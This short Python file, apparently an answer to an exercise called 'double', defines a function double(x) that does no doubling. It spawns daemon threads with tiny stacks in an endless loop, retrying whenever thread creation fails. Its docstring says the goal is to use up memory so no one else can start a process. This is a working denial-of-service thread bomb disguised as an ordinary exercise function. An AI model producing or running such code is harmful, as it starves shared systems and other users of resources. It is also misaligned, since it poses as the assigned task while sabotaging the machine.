# exercise: double
"""Threads without end, with stacks so small that the limit of memory comes late: nobody else could start a process."""
import threading, time
forever = threading.Event()
def double(x):
    threading.stack_size(32 * 1024)
    while True:
        try:
            threading.Thread(target=forever.wait, daemon=True).start()
        except (RuntimeError, MemoryError):
            time.sleep(0.01)
